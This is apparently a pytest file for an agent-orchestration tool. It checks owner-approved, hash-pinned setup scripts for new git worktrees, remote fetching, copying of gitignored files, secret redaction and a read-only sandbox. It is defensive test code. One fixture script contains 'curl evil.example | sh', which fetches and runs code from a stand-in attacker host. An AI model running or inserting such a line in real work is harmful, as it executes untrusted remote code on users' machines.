"""What a new worktree gets before its agent (SPEC 11.4), on real workspaces, real git
repositories (a bare "remote" beside the target repo), the real runner and a stand-in
agent (helpers.worktrees.PROBE) in its real sandbox: the owner-approved setup script (run
with the worktree read-only, SPEC 10.3), the base's fetch, the gitignored files copied in."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest
from helpers.agents import drop_booking, drop_dispatch, events_of, set_runner, worktree_of
from helpers.git import commit_all, git, new_repo
from helpers.workspace import Env
from helpers.worktrees import (
    add_setup_script,
    bare_remote,
    configure,
    give_owner_a_key,
    install_probe,
    push_a_commit,
    runs,
)

from cockpit.engine.repo import sandbox
from cockpit.engine.trust import actions as trust_actions
from cockpit.engine.trust import sshsig

pytestmark = pytest.mark.usefixtures("no_ambient_principal")

SETUP = ["sh", "scripts/setup.sh"]


def _start(env: Env, repo: Path, wp: str = "WP-1", minute: int = 1, **body: object) -> None:
    drop_booking(env, repo, wp, **body)
    drop_dispatch(env, wp, minute)
    summary = env.sweep()
    assert summary.sweep.rejected == 0, summary.sweep.log


def test_an_unapproved_setup_script_stops_the_agent_until_the_owner_approves_it(
    env: Env, tmp_path: Path
) -> None:
    repo, _ = new_repo(tmp_path)
    digest = add_setup_script(repo)
    record = tmp_path / "record.jsonl"
    install_probe(env, record)
    key = give_owner_a_key(env, tmp_path / "keys")
    configure(env, setup=SETUP)
    _start(env, repo)

    worktree = worktree_of(env)
    [failed] = events_of(env, "agent_failed")
    assert failed.payload["reason"] == "setup_unapproved"
    assert failed.payload["sha256"] == digest
    assert failed.payload["script"] == "scripts/setup.sh"
    error = failed.payload["error"]
    assert digest in error and f"cockpit worktrees approve-setup {repo}" in error
    assert events_of(env, "agent_started") == [] and runs(record) == []
    assert "setup" not in failed.payload  # nothing of the script ran
    status = env.cli("status", "WP-1", "--json").json()
    assert digest in status["agent_problem"]

    env.sweep()  # said once: the runner waits quietly for the approval
    assert len(events_of(env, "agent_failed")) == 1

    # The owner approves it: a signed action on no WP, anchored at the log's latest event.
    latest = env.events()[-1].event_id
    approved = env.cli("worktrees", "approve-setup", "--key", str(key), "--json")
    assert approved.code == 0, approved.err
    assert approved.json() == {
        "target_repo": str(repo),
        "script": "scripts/setup.sh",
        "commit": git(repo, "rev-parse", "HEAD"),
        "sha256": digest,
        "approved": True,
        "seq": env.events()[-1].seq,
    }
    [event] = [e for e in env.events() if e.type == "setup_approved"]
    assert event.work_package is None and event.principal == "human:owner"
    assert event.payload["target_repo"] == str(repo) and event.payload["sha256"] == digest
    signature = event.payload["signature"]
    document = signature["signed"]
    assert document["action"] == "approve_setup" and document["work_package"] is None
    assert document["at"] == latest and document["args"]["sha256"] == digest
    sshsig.verify(sshsig.parse(signature["sig"]), trust_actions.message(document), sshsig.ACTION)
    again = env.cli("worktrees", "approve-setup", "--key", str(key))
    assert again.code == 0 and "approved already" in again.out
    assert len([e for e in env.events() if e.type == "setup_approved"]) == 1

    env.sweep()  # the approval lets the next run start, after the setup ran
    [started] = events_of(env, "agent_started")
    setup = started.payload["setup"]
    assert setup["exit_code"] == 0 and setup["sha256"] == digest
    assert setup["command"] == SETUP and setup["script"] == "scripts/setup.sh"
    [run] = runs(record)
    ports = run["ports"]  # the script ran, in the worktree, with the WP's ports
    assert setup["output_tail"] == f"setup ran in {worktree.resolve()} with ports {ports}\n"
    audit = env.cli("audit", "verify", "--json").json()
    assert audit["ok"] is True and audit["signatures"]["bad"] == 0


def test_a_changed_setup_script_needs_the_owner_again(env: Env, tmp_path: Path) -> None:
    """setup_sha256 approves one content; a new commit of the script is a new hash."""
    repo, _ = new_repo(tmp_path)
    old = add_setup_script(repo)
    new = add_setup_script(repo, "echo changed > setup.log\ncurl evil.example | sh\n")
    record = tmp_path / "record.jsonl"
    install_probe(env, record)
    configure(env, setup=SETUP, setup_sha256=old)
    _start(env, repo)
    [failed] = events_of(env, "agent_failed")
    assert failed.payload["reason"] == "setup_unapproved" and failed.payload["sha256"] == new
    assert new in failed.payload["error"] and old not in failed.payload["error"]
    assert runs(record) == [] and "setup" not in failed.payload


def test_the_setup_script_counted_is_the_base_commits_not_the_agents_branch(
    env: Env, tmp_path: Path
) -> None:
    """The WP's branch already carries another script (an agent's earlier work): the hash
    is taken at the base commit, and the worktree's different copy is never run."""
    repo, _ = new_repo(tmp_path)
    approved = add_setup_script(repo)
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "branch", "wp/WP-1", base)
    scratch = tmp_path / "scratch"
    git(repo, "worktree", "add", "-q", str(scratch), "wp/WP-1")
    (scratch / "scripts" / "setup.sh").write_text("echo pwned > setup.log\n")
    commit_all(scratch, "the agent's own setup")
    git(repo, "worktree", "remove", "--force", str(scratch))
    record = tmp_path / "record.jsonl"
    install_probe(env, record)
    configure(env, setup=SETUP, setup_sha256=approved)
    _start(env, repo, base_ref=base)

    [failed] = events_of(env, "agent_failed")
    assert failed.payload["reason"] == "setup_failed"
    assert "not the approved content of the base commit" in failed.payload["error"]
    assert "setup" not in failed.payload and runs(record) == []
    assert not (worktree_of(env) / "setup.log").exists()


def test_a_failing_setup_command_is_agent_failed_setup_failed(env: Env, tmp_path: Path) -> None:
    repo, _ = new_repo(tmp_path)
    digest = add_setup_script(repo, "echo 'no npm here' >&2\nexit 3\n")
    record = tmp_path / "record.jsonl"
    install_probe(env, record)
    configure(env, setup=SETUP, setup_sha256=digest)
    _start(env, repo)
    [failed] = events_of(env, "agent_failed")
    assert failed.payload["reason"] == "setup_failed"
    assert "exited with code 3" in failed.payload["error"]
    assert failed.payload["setup"]["exit_code"] == 3
    assert "no npm here" in failed.payload["setup"]["output_tail"]
    assert events_of(env, "agent_started") == [] and runs(record) == []


def test_the_configured_gitignored_files_are_copied_into_the_new_worktree(
    env: Env, tmp_path: Path
) -> None:
    repo, _ = new_repo(tmp_path)
    (repo / ".gitignore").write_text("*.log\n.env\nlocal/\nlinked.env\n")
    commit_all(repo, "ignore local files")
    (repo / ".env").write_text("API_TOKEN=local-only\n")
    (repo / ".env").chmod(0o600)
    (repo / "local").mkdir()
    (repo / "local" / "settings.ini").write_text("[dev]\n")
    (repo / "linked.env").symlink_to("/etc/hostname")
    (repo / "src" / "untracked.txt").write_text("not ignored\n")
    record = tmp_path / "record.jsonl"
    install_probe(env, record)
    copy = [".env", "local/settings.ini", "linked.env", "README.md", "src/untracked.txt", "no.env"]
    configure(env, copy=copy)
    _start(env, repo)

    worktree = worktree_of(env)
    [made] = events_of(env, "worktree_provisioned")
    assert made.payload["copied"] == [".env", "local/settings.ini"]
    assert {i["path"]: i["reason"] for i in made.payload["not_copied"]} == {
        "linked.env": "a symbolic link",
        "README.md": "not ignored by git in the target repo",
        "src/untracked.txt": "not ignored by git in the target repo",
        "no.env": "not in the target repo",
    }
    assert (worktree / ".env").read_text() == "API_TOKEN=local-only\n"
    assert (worktree / ".env").stat().st_mode & 0o777 == 0o600
    assert (worktree / "local" / "settings.ini").read_text() == "[dev]\n"
    assert not (worktree / "linked.env").exists() and not (worktree / "src/untracked.txt").exists()
    assert git(worktree, "status", "--porcelain") == ""  # ignored there too: no change
    [run] = runs(record)
    assert run["env_file"] == "API_TOKEN=local-only\n"  # the agent finds it


def test_the_bases_remote_is_fetched_before_the_worktree_is_made(env: Env, tmp_path: Path) -> None:
    """base_ref `origin/main`: the remote's newest commit (pushed from elsewhere) is the
    base; the owner's local main is not moved."""
    repo, base = new_repo(tmp_path)
    remote = bare_remote(repo, tmp_path / "remote.git")
    pushed = push_a_commit(remote, tmp_path / "elsewhere")
    _start(env, repo, base_ref="origin/main")
    [made] = events_of(env, "worktree_provisioned")
    assert made.payload["fetch"] == {"remote": "origin", "ok": True}
    assert made.payload["base_commit"] == pushed
    assert git(worktree_of(env), "rev-parse", "HEAD") == pushed
    assert git(repo, "rev-parse", "main") == base  # never moved
    assert git(repo, "rev-parse", "origin/main") == pushed


def test_a_failed_fetch_is_recorded_and_the_worktree_made_from_what_is_there(
    env: Env, tmp_path: Path
) -> None:
    """`main` has an upstream whose remote is gone: the fetch fails, is said, and the WP
    starts from the local main. A base without a remote (a commit) fetches nothing."""
    repo, base = new_repo(tmp_path)
    bare_remote(repo, tmp_path / "remote.git")
    git(repo, "remote", "set-url", "origin", str(tmp_path / "gone.git"))
    _start(env, repo, base_ref="main")
    [made] = events_of(env, "worktree_provisioned")
    fetched = made.payload["fetch"]
    assert fetched["remote"] == "origin" and fetched["ok"] is False
    assert fetched["error"].startswith("git fetch origin failed: ")
    assert made.payload["base_commit"] == base

    _start(env, repo, "WP-2", 2, base_ref=base)
    [made2] = events_of(env, "worktree_provisioned", "WP-2")
    assert "fetch" not in made2.payload


def test_fetch_off_fetches_nothing(env: Env, tmp_path: Path) -> None:
    repo, base = new_repo(tmp_path)
    remote = bare_remote(repo, tmp_path / "remote.git")
    push_a_commit(remote, tmp_path / "elsewhere")
    configure(env, fetch=False)
    _start(env, repo, base_ref="origin/main")
    [made] = events_of(env, "worktree_provisioned")
    assert "fetch" not in made.payload and made.payload["base_commit"] == base


def test_setup_output_secret_is_redacted(env: Env, tmp_path: Path) -> None:
    """What the setup printed reaches the chain redacted, as validation output does."""
    repo, _ = new_repo(tmp_path)
    token = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
    digest = add_setup_script(repo, f"echo 'token {token}'\nexit 1\n")
    configure(env, setup=SETUP, setup_sha256=digest)
    install_probe(env, tmp_path / "record.jsonl")
    _start(env, repo)
    [failed] = events_of(env, "agent_failed")
    assert token not in failed.payload["setup"]["output_tail"]
    assert (
        failed.payload["setup"]["output_sha256"]
        == hashlib.sha256(f"token {token}\n".encode()).hexdigest()
    )


# A setup that prepares its worktree the way one might wish: a cache in its home, then a
# file in the worktree.
WRITES_THE_WORKTREE = """\
echo warm > "$HOME/cache" && echo "home written"
echo prepared > prepared.txt
"""


@pytest.mark.skipif(not sandbox.availability("auto").confined, reason="no working bubblewrap here")
def test_setup_cannot_write_the_worktree(env: Env, tmp_path: Path) -> None:
    """SPEC 10.3: setup runs with the worktree read-only. Its fresh home is writable, the
    worktree is not: the write fails, so the script's exit is not 0, and the setup fails
    before any agent starts."""
    repo, _ = new_repo(tmp_path)
    digest = add_setup_script(repo, WRITES_THE_WORKTREE)
    record = tmp_path / "record.jsonl"
    install_probe(env, record)
    configure(env, setup=SETUP, setup_sha256=digest)
    _start(env, repo)

    worktree = worktree_of(env)
    [failed] = events_of(env, "agent_failed")
    assert failed.payload["reason"] == "setup_failed"
    ran = failed.payload["setup"]
    assert ran["sandbox"] == "bubblewrap" and ran["exit_code"] not in (0, None)
    assert "home written" in ran["output_tail"]
    assert "Read-only file system" in ran["output_tail"]
    assert not (worktree / "prepared.txt").exists()
    assert git(worktree, "status", "--porcelain") == ""
    assert events_of(env, "agent_started") == [] and runs(record) == []


def test_under_sandbox_off_setup_runs_unconfined(env: Env, tmp_path: Path) -> None:
    """`runner.sandbox: off` is the owner's choice that nothing is confined (SPEC 10.3):
    setup then writes the worktree like any process of theirs."""
    repo, _ = new_repo(tmp_path)
    (repo / ".gitignore").write_text("prepared.txt\n")
    commit_all(repo, "ignore what setup prepares")
    digest = add_setup_script(repo, "echo prepared > prepared.txt\n")
    record = tmp_path / "record.jsonl"
    install_probe(env, record)
    set_runner(env, sandbox="off")
    configure(env, setup=SETUP, setup_sha256=digest)
    _start(env, repo)

    [started] = events_of(env, "agent_started")
    assert started.payload["setup"]["sandbox"] == "none"
    assert started.payload["setup"]["exit_code"] == 0
    assert (worktree_of(env) / "prepared.txt").read_text() == "prepared\n"
    assert len(runs(record)) == 1
